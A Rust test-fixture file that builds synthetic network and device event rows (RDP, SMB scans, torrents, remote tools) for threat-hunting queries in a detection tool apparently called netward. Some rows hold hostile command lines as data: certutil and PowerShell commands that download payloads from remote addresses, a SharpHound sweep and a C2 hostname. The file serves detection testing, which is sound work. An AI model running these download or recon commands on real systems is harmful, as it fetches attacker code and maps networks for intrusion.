//! The rows behind the second set of corpus queries (netward's own, each
//! modeled on a public one of Bert-JanP, reprise99, Microsoft or Sentinel,
//! whose path names the query here): each group names the queries it
//! makes non-empty, and what those queries must then find is in
//! `more_expect.rs`. Devices d5..d11 are new here, so the first set's
//! answers do not move; where a query of the first set also sees a row
//! (URL Detection, the firewall design assistant) the comment says so.

use super::*;

/// 2024-03-07T00:00:00Z, `startofday(now())`.
const TODAY: i64 = NOW - 12 * HOUR;

pub(super) fn more_network_events(ev: &mut Vec<Ev>) {
    let now = NOW;
    // AnyDesk to a public relay (d5); its boot connection is filtered out.
    ev.push(
        Ev::new(now - 2 * HOUR, 5, "ConnectionSuccess")
            .proc("AnyDesk.exe")
            .account("alice")
            .ip("198.51.100.20")
            .i("RemotePort", 80)
            .url("relay-1.net.anydesk.com"),
    );
    ev.push(Ev::new(now - 3 * HOUR, 5, "ConnectionSuccess").proc("AnyDesk.exe").url("boot.net.anydesk.com"));

    // Listening sockets (two days ago): d6 ssh twice, http, mysql, 8080 and
    // cups on loopback; d7 smb, rdp, postgres, mssql, netbios; d8 ssh, dns.
    let t = now - 2 * DAY;
    for (dev, port, cmd) in [
        (6, 22, "/usr/sbin/sshd -D"),
        (6, 22, "/usr/sbin/sshd -D"),
        (6, 80, "nginx: master process"),
        (6, 3306, "mysqld"),
        (6, 8080, "java -jar app.jar"),
        (7, 445, "smbd"),
        (7, 3389, "xrdp"),
        (7, 5432, "postgres"),
        (7, 1433, "sqlservr"),
        (7, 139, "nmbd"),
        (8, 22, "sshd: listener"),
        (8, 53, "dnsmasq"),
    ] {
        ev.push(Ev::listening(t, dev, port).cmd(cmd).s("InitiatingProcessFolderPath", "/usr/sbin/daemon"));
    }
    ev.push(
        Ev::listening(t, 6, 631)
            .s("LocalIP", "127.0.0.1")
            .cmd("cupsd")
            .s("InitiatingProcessFolderPath", "/usr/sbin/daemon"),
    );

    // Outbound RDP (RemotePort 3389, ConnectionSuccess): d5 bob 30 h ago,
    // carol 3 h and 36 h ago; d6 eve to seven private hosts within minutes.
    let rdp = |t: i64, dev: u32, who: &str, ip: &str| {
        Ev::new(t, dev, "ConnectionSuccess").i("RemotePort", 3389).account(who).ip(ip).proc("mstsc.exe")
    };
    ev.push(rdp(now - 30 * HOUR, 5, "bob", "203.0.113.50"));
    ev.push(rdp(now - 3 * HOUR, 5, "carol", "203.0.113.51"));
    ev.push(rdp(now - 36 * HOUR, 5, "carol", "203.0.113.51"));
    for k in 0..7 {
        ev.push(
            rdp(now - 5 * HOUR + k * MIN, 6, "eve", &format!("10.3.0.{}", k + 1))
                .proc("mRemoteNG.exe")
                .s("RemoteIPType", "Private"),
        );
    }

    // Inbound RDP from the internet to d7 (port 3389, and the TermService
    // command line on 3390).
    ev.push(
        Ev::new(now - 6 * HOUR, 7, "InboundConnectionAccepted")
            .i("LocalPort", 3389)
            .ip("198.51.100.60")
            .s("InitiatingProcessFolderPath", "/usr/sbin/xrdp"),
    );
    ev.push(
        Ev::new(now - 6 * HOUR, 7, "InboundConnectionAccepted")
            .i("LocalPort", 3390)
            .ip("198.51.100.61")
            .cmd("svchost.exe -k termsvcs -s TermService")
            .s("InitiatingProcessFolderPath", "/usr/sbin/xrdp"),
    );
    // Inbound LDAP (389 three times from two hosts) and LDAPS (636) to d8.
    for (port, ip) in [(389, "10.4.0.1"), (389, "10.4.0.2"), (389, "10.4.0.1"), (636, "10.4.0.3")] {
        ev.push(
            Ev::new(now - 7 * HOUR, 8, "InboundConnectionAccepted")
                .i("LocalPort", port)
                .ip(ip)
                .s("RemoteIPType", "Private")
                .s("InitiatingProcessFolderPath", "/usr/sbin/slapd"),
        );
    }
    // d7 is a domain controller: Kerberos on a 4-to-6 mapped address.
    ev.push(
        Ev::new(now - 8 * HOUR, 7, "InboundConnectionAccepted")
            .i("LocalPort", 88)
            .s("LocalIPType", "FourToSixMapping")
            .ip("10.4.0.9")
            .s("RemoteIPType", "Private")
            .s("InitiatingProcessFolderPath", "/usr/sbin/krb5kdc"),
    );

    // SMB (445): d5 to a public address; SERVER1.com (d9) to two file
    // servers in the last hour; the DC d7 to one (an attempt); BloodHound on
    // d8 ten days ago, 101 addresses within a minute (attempts).
    ev.push(Ev::new(now - 2 * HOUR, 5, "ConnectionSuccess").i("RemotePort", 445).ip("198.51.100.45"));
    for (ip, url) in [("10.5.0.1", ""), ("10.5.0.2", "fs1.corp.local")] {
        ev.push(
            Ev::new(now - HOUR + 5 * MIN, 9, "ConnectionSuccess")
                .s("DeviceName", "SERVER1.com")
                .i("RemotePort", 445)
                .ip(ip)
                .url(url)
                .s("RemoteIPType", "Private"),
        );
    }
    ev.push(
        Ev::new(now - 2 * HOUR, 7, "ConnectionAttempt")
            .i("RemotePort", 445)
            .ip("10.7.0.1")
            .s("RemoteIPType", "Private"),
    );
    for k in 1..=101 {
        ev.push(
            Ev::new(ts("2024-02-26T10:00:00Z") + k * 500_000_000, 8, "ConnectionAttempt")
                .i("RemotePort", 445)
                .ip(&format!("10.6.{}.{}", k / 100, k % 100))
                .s("RemoteIPType", "Private")
                .account("svc-bh")
                .cmd("SharpHound.exe -c all")
                .proc("SharpHound.exe"),
        );
    }

    // HTTP signatures: a POST and two PNG downloads beside the first set's
    // two GETs (payload.exe, index.html).
    for (content, report) in
        [("POST /upload.php HTTP/1.1", 803), ("GET /img/logo.png HTTP/1.1", 804), ("GET /a.png HTTP/1.1", 805)]
    {
        ev.push(
            Ev::new(now - 6 * HOUR, 2, "NetworkSignatureInspected")
                .l("ReportId", report)
                .extra(serde_json::json!({"SignatureName": "HTTP_Client", "SignatureMatchedContent": content, "SamplePacketContent": "x"})),
        );
    }
    // DNS over 443 to a public resolver (kept), over 53 and to a private
    // address (dropped); SSH on 2222 to the internet (kept), on 22 and to a
    // private address (dropped).
    ev.push(Ev::signature(now - 9 * HOUR, 6, "DNS_Request", "203.0.113.80", 443));
    ev.push(Ev::signature(now - 9 * HOUR, 6, "DNS_Request", "203.0.113.81", 53));
    ev.push(Ev::signature(now - 9 * HOUR, 6, "DNS_Request", "10.0.0.53", 443));
    ev.push(Ev::signature(now - 9 * HOUR, 6, "SSH", "203.0.113.90", 2222));
    ev.push(Ev::signature(now - 9 * HOUR, 6, "SSH", "203.0.113.91", 22));
    ev.push(Ev::signature(now - 9 * HOUR, 6, "SSH", "192.168.5.5", 2222));
    // A device scanned from the internet.
    ev.push(
        Ev::new(now - 10 * HOUR, 7, "InboundInternetScanInspected")
            .ip("")
            .extra(serde_json::json!({"PublicScannedIp": "192.0.2.10", "PublicScannedPort": "443"})),
    );

    // conhost.exe: to a C2 host (kept), to Microsoft (URL Detection sees it
    // too: go.microsoft.com is in MICROSOFT_URLS), private, loopback.
    for (ip, url) in
        [("203.0.113.70", "c2.badhost.net"), ("20.1.1.1", "go.microsoft.com"), ("10.0.0.99", ""), ("127.0.0.1", "")]
    {
        ev.push(Ev::new(now - 2 * DAY, 6, "ConnectionSuccess").proc("conhost.exe").ip(ip).url(url));
    }

    // Torrents three days ago: two URLs with the terms, a `.tor` host, an
    // Azureus client; qBittorrent's name does not have the term `torrent`.
    for (dev, proc, url, report) in [
        (5, "chrome.exe", "torrent.example.org", 701),
        (5, "chrome.exe", "dl.vuze.com", 702),
        (6, "qbittorrent.exe", "", 703),
        (6, "chrome.exe", "files.site.tor", 704),
        (6, "Azureus.exe", "", 705),
    ] {
        ev.push(Ev::new(now - 3 * DAY, dev, "ConnectionSuccess").proc(proc).url(url).l("ReportId", report));
    }
    // ShadowHammer: the domain 10 days ago, the address 20 and 40 days ago.
    ev.push(Ev::new(now - 10 * DAY, 6, "ConnectionSuccess").url("asushotfix.com").ip("141.105.71.1"));
    ev.push(Ev::new(now - 20 * DAY, 7, "ConnectionSuccess").ip("141.105.71.116"));
    ev.push(Ev::new(now - 40 * DAY, 7, "ConnectionSuccess").ip("141.105.71.116"));
    // Google APIs from a non-browser (twice) and from chrome.
    for url in ["oauth2.googleapis.com", "sheets.googleapis.com"] {
        ev.push(Ev::new(now - 4 * HOUR, 7, "ConnectionSuccess").proc("gc2.exe").account("mallory").url(url));
    }
    ev.push(Ev::new(now - 4 * HOUR, 7, "ConnectionSuccess").url("drive.googleapis.com"));
    // DNS to port 53, with and without a name.
    ev.push(Ev::new(now - 5 * HOUR, 8, "ConnectionSuccess").s("Protocol", "Udp").i("RemotePort", 53).url("dns.google"));
    ev.push(Ev::new(now - 5 * HOUR, 8, "ConnectionSuccess").s("Protocol", "Udp").i("RemotePort", 53));
    // Edge to a phishing page that SmartScreen warned about (DeviceEvents).
    ev.push(
        Ev::new(ts("2024-03-07T09:15:20Z"), 6, "ConnectionSuccess")
            .proc("msedge.exe")
            .account("frank")
            .ip("203.0.113.77")
            .url("phish.example.net"),
    );

    // certutil to the internet (a day and an hour ago).
    ev.push(
        Ev::new(now - 25 * HOUR, 8, "ConnectionSuccess")
            .proc("certutil.exe")
            .cmd("certutil.exe -urlcache -split -f http://203.0.113.99/a.exe")
            .ip("203.0.113.99")
            .i("RemotePort", 80),
    );
    // TeamViewer: d5 ten days ago and today, d6 only today (twice).
    for (t, dev) in [(now - 10 * DAY, 5), (now - 2 * HOUR, 5), (TODAY + HOUR, 6), (TODAY + 2 * HOUR, 6)] {
        ev.push(
            Ev::new(t, dev, "ConnectionSuccess")
                .proc("TeamViewer.exe")
                .account("gina")
                .ip(&format!("203.0.113.3{dev}")),
        );
    }
    // PuTTY and ssh to port 22: putty 5 h ago (d7), ssh 2 and 3 days ago (d8).
    ev.push(
        Ev::new(now - 5 * HOUR, 7, "ConnectionSuccess")
            .proc("putty.exe")
            .cmd("putty.exe -ssh admin@203.0.113.22")
            .account("henry")
            .ip("203.0.113.22")
            .i("RemotePort", 22),
    );
    for days in [2, 3] {
        ev.push(Ev::new(now - days * DAY, 8, "ConnectionSuccess").proc("ssh").ip("203.0.113.23").i("RemotePort", 22));
    }
    // PowerShell to the internet as dave (kept) and as system (dropped).
    for who in ["dave", "system"] {
        ev.push(
            Ev::new(now - 26 * HOUR, 8, "ConnectionSuccess")
                .proc("powershell.exe")
                .cmd("powershell.exe -nop -c iwr http://203.0.113.44/p.ps1")
                .account(who)
                .ip("203.0.113.44")
                .i("RemotePort", 80),
        );
    }
    // A device last heard of 45 days ago.
    for days in [45, 50] {
        ev.push(Ev::new(now - days * DAY, 10, "ConnectionSuccess"));
    }
    // Network recon from d11: ten private hosts, ten common ports, in one hour.
    for (k, port) in [21, 22, 25, 53, 80, 110, 123, 139, 389, 445].iter().enumerate() {
        ev.push(
            Ev::new(now - 6 * HOUR + k as i64 * MIN, 11, "ConnectionSuccess")
                .proc("nmap")
                .ip(&format!("10.8.0.{}", k + 1))
                .i("RemotePort", *port)
                .s("RemoteIPType", "Private"),
        );
    }
}

pub(super) fn device_events() -> Vec<Record> {
    let now = NOW;
    let mut ev = vec![
        // Network protection: a malicious site blocked (kept), a custom
        // indicator audited (dropped by the query).
        Ev::device_event(now - 3 * HOUR, 5, "ExploitGuardNetworkProtectionBlocked")
            .s("InitiatingProcessAccountUpn", "bob@corp.example")
            .url("malware.example.org")
            .extra(serde_json::json!({"ResponseCategory": "Malicious", "DisplayName": "Malicious site"})),
        Ev::device_event(now - 3 * HOUR, 5, "ExploitGuardNetworkProtectionAudited")
            .url("blocked.example.org")
            .extra(serde_json::json!({"ResponseCategory": "CustomBlockList", "DisplayName": "Custom"})),
        // SmartScreen warned about the page Edge opened, in the same minute.
        Ev::device_event(ts("2024-03-07T09:15:40Z"), 6, "SmartScreenUrlWarning")
            .proc("msedge.exe")
            .account("frank")
            .url("phish.example.net")
            .extra(serde_json::json!({"Experience": "Malicious"})),
        // A browser opened a URL with every part.
        Ev::device_event(now - 4 * HOUR, 7, "BrowserLaunchedToOpenUrl")
            .url("https://user:pw@files.example.com:8443/share/doc.pdf?id=7#top"),
        Ev::device_event(now - 4 * HOUR, 7, "BrowserLaunchedToOpenUrl").url(""),
    ];
    // The firewall blocked 203.0.113.66 on three devices within ten minutes,
    // 203.0.113.67 on two.
    for (k, dev) in [5, 6, 7].iter().enumerate() {
        ev.push(
            Ev::device_event(now - HOUR + k as i64 * 5 * MIN, *dev, "FirewallInboundConnectionBlocked")
                .ip("203.0.113.66"),
        );
    }
    for dev in [5, 6] {
        ev.push(Ev::device_event(now - HOUR, dev, "FirewallInboundConnectionBlocked").ip("203.0.113.67"));
    }
    ev.into_iter().map(|e| e.r).collect()
}

/// Inventory rows of the new devices: onboarding states and OS builds.
pub(super) fn more_device_info(info: &mut Vec<Record>) {
    let row = |t: i64, dev: u32, name: &str, status: &str, platform: &str, build: Option<i64>| {
        let mut r = Record::new(Table::DeviceInfo);
        r.set("Timestamp", Value::DateTime(Timestamp::from_unix_nanos(t))).unwrap();
        r.set("DeviceId", Value::String(format!("d{dev}"))).unwrap();
        r.set("DeviceName", Value::String(name.into())).unwrap();
        r.set("OnboardingStatus", Value::String(status.into())).unwrap();
        r.set("OSPlatform", Value::String(platform.into())).unwrap();
        if let Some(b) = build {
            r.set("OSBuild", Value::Long(b)).unwrap();
        }
        r
    };
    info.push(row(NOW - 5 * DAY, 5, "host5.corp", "Onboarded", "Windows10", Some(19044)));
    info.push(row(NOW - 2 * HOUR, 5, "host5.corp", "Onboarded", "Windows10", Some(19045)));
    info.push(row(NOW - 6 * HOUR, 6, "host6.corp", "Onboarded", "Linux", Some(6)));
    info.push(row(NOW - 3 * HOUR, 8, "host8.corp", "Can be onboarded", "Windows11", Some(22631)));
    info.push(row(NOW - 4 * HOUR, 9, "SERVER1.com", "Unsupported", "WindowsServer2022", Some(20348)));
    info.push(row(NOW - 4 * HOUR, 11, "host11.corp", "Onboarded", "", None));
}
